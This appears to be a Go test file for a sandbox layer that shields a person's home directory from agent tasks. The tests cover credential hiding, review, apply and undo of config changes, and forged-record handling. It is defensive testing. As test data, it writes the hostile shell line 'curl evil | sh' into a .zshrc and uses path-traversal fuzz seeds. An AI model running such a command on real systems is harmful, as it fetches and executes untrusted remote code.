package homelayer

import (
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func setup(t *testing.T) (home string, layer Layer, kept string) {
	t.Helper()
	dir := t.TempDir()
	home = filepath.Join(dir, "home")
	for p, c := range map[string]string{
		".gitconfig": "[user]\n\tname = Me\n", ".zshrc": "export A=1\n", ".ssh/id_ed25519": "SECRET",
		".config/app/settings.json": "{}", "Documents/letter.txt": "dear", ".bash_history": "ls",
	} {
		full := filepath.Join(home, p)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	layer = Layer{Dir: filepath.Join(dir, "task", "home"), Record: filepath.Join(dir, "task", "home.json")}
	kept = filepath.Join(dir, "task", "home-kept")
	if err := Build(layer, home); err != nil {
		t.Fatal(err)
	}
	return home, layer, kept
}

func TestLayerHidesCredentialsAndLinksTheRest(t *testing.T) {
	t.Parallel()
	home, layer, _ := setup(t)
	for _, p := range []string{".ssh", ".bash_history"} {
		if _, err := os.Lstat(filepath.Join(layer.Dir, p)); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("%s is in the layer", p)
		}
	}
	if target, err := os.Readlink(filepath.Join(layer.Dir, "Documents")); err != nil || target != filepath.Join(home, "Documents") {
		t.Errorf("Documents = %q, %v; want a link to the person's own", target, err)
	}
	if info, err := os.Lstat(filepath.Join(layer.Dir, ".config/app/settings.json")); err != nil || !info.Mode().IsRegular() {
		t.Errorf(".config was not copied: %v", err)
	}
}

// git config --global inside a task writes the layer's .gitconfig; the real
// one is untouched, the change waits for review, and apply/undo work.
func TestGitConfigGlobalIsCaughtForReview(t *testing.T) {
	t.Parallel()
	home, layer, kept := setup(t)
	cmd := exec.Command("git", "config", "--global", "user.name", "Agent")
	cmd.Env = append(os.Environ(), "HOME="+layer.Dir, "XDG_CONFIG_HOME="+filepath.Join(layer.Dir, ".config"))
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git config: %v\n%s", err, out)
	}
	if b, _ := os.ReadFile(filepath.Join(home, ".gitconfig")); !strings.Contains(string(b), "Me") || strings.Contains(string(b), "Agent") {
		t.Fatalf("the real ~/.gitconfig changed: %q", b)
	}
	ch, err := Changes(layer)
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff([]Change{{Path: ".gitconfig", Kind: "modify", RunsAtStart: true}}, ch); d != "" {
		t.Fatalf("changes (-want +got):\n%s", d)
	}
	if err := Apply(layer, kept, ".gitconfig"); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(filepath.Join(home, ".gitconfig")); !strings.Contains(string(b), "Agent") {
		t.Fatalf("apply did not write the change: %q", b)
	}
	if ch, _ := Changes(layer); len(ch) != 0 {
		t.Fatalf("after apply still pending: %v", ch)
	}
	if p, err := Undo(layer, kept); err != nil || p != ".gitconfig" {
		t.Fatalf("undo = %q, %v", p, err)
	}
	if b, _ := os.ReadFile(filepath.Join(home, ".gitconfig")); strings.Contains(string(b), "Agent") || !strings.Contains(string(b), "Me") {
		t.Fatalf("undo did not restore ~/.gitconfig: %q", b)
	}
	if _, err := Undo(layer, kept); !errors.Is(err, ErrNothingToUndo) {
		t.Fatalf("second undo = %v", err)
	}
}

func TestApplyRefusesWhenThePersonChangedTheirFile(t *testing.T) {
	t.Parallel()
	home, layer, kept := setup(t)
	if err := os.WriteFile(filepath.Join(layer.Dir, ".zshrc"), []byte("curl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(home, ".zshrc"), []byte("export A=2\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := Apply(layer, kept, ".zshrc"); !errors.Is(err, ErrPersonChanged) {
		t.Fatalf("apply = %v, want ErrPersonChanged", err)
	}
	if b, _ := os.ReadFile(filepath.Join(home, ".zshrc")); string(b) != "export A=2\n" {
		t.Fatalf("a refused apply wrote %q", b)
	}
}

func TestNewFileAtTheTopAndDiscard(t *testing.T) {
	t.Parallel()
	_, layer, _ := setup(t)
	if err := os.WriteFile(filepath.Join(layer.Dir, ".newtoolrc"), []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	ch, _ := Changes(layer)
	if len(ch) != 1 || ch[0].Kind != "add" || ch[0].Path != ".newtoolrc" {
		t.Fatalf("changes = %v", ch)
	}
	if err := Discard(layer); err != nil {
		t.Fatal(err)
	}
	if ch, _ := Changes(layer); len(ch) != 0 {
		t.Fatalf("after discard: %v", ch)
	}
}

// A layer made by an older version kept its record inside the layer, where
// the task could point it at ~/.ssh. Adopt moves it beside the layer and
// records the person's own home, whatever the old record said.
func TestAdoptMovesAnOldRecordOutAndTrustsNotItsHome(t *testing.T) {
	t.Parallel()
	home, layer, _ := setup(t)
	b, err := os.ReadFile(layer.Record)
	if err != nil {
		t.Fatal(err)
	}
	forged := strings.Replace(string(b), `"home":"`+home+`"`, `"home":"`+filepath.Join(home, ".ssh")+`"`, 1)
	if forged == string(b) {
		t.Fatalf("the record does not hold the home as expected: %s", b)
	}
	if err := os.WriteFile(filepath.Join(layer.Dir, ".kule-home.json"), []byte(forged), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(layer.Record); err != nil {
		t.Fatal(err)
	}
	if _, err := Changes(layer); err == nil {
		t.Fatal("a layer without its record was read")
	}
	if err := Adopt(layer, home); err != nil {
		t.Fatal(err)
	}
	snap, err := readSnapshot(layer)
	if err != nil {
		t.Fatal(err)
	}
	if snap.Home != home {
		t.Fatalf("the adopted record names %s, want the person's home %s", snap.Home, home)
	}
	if _, err := os.Lstat(filepath.Join(layer.Dir, ".kule-home.json")); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("the old record is still in the layer: %v", err)
	}
	if ch, err := Changes(layer); err != nil || len(ch) != 0 {
		t.Fatalf("after adoption: %v, %v; want no changes", ch, err)
	}
	// Once adopted, a new .kule-home.json in the layer is only a file.
	if err := os.WriteFile(filepath.Join(layer.Dir, ".kule-home.json"), []byte(forged), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := Adopt(layer, home); err != nil {
		t.Fatal(err)
	}
	if snap, _ := readSnapshot(layer); snap.Home != home {
		t.Fatalf("a second .kule-home.json changed the record: %s", snap.Home)
	}
}

// FuzzAdopt: whatever an old layer's .kule-home.json holds (the task could
// write anything there), the adopted record names the person's home.
func FuzzAdopt(f *testing.F) {
	for _, s := range []string{`{"home":"/root/.ssh","files":{".zshrc":"00"}}`, `{"home":1}`, `null`, `{"files":{"../../x":"y"}}`, "\x00"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, old []byte) {
		dir := t.TempDir()
		l := Layer{Dir: filepath.Join(dir, "home"), Record: filepath.Join(dir, "home.json")}
		if err := os.Mkdir(l.Dir, 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(l.Dir, ".kule-home.json"), old, 0o600); err != nil {
			t.Fatal(err)
		}
		if err := Adopt(l, "/home/person"); err != nil {
			t.Fatal(err)
		}
		snap, err := readSnapshot(l)
		if err != nil {
			t.Fatal(err)
		}
		if snap.Home != "/home/person" {
			t.Fatalf("adopted record names %q", snap.Home)
		}
		for rel := range snap.Files {
			if !localPath(rel) {
				t.Fatalf("adopted record keeps %q, which leaves the home", rel)
			}
		}
	})
}
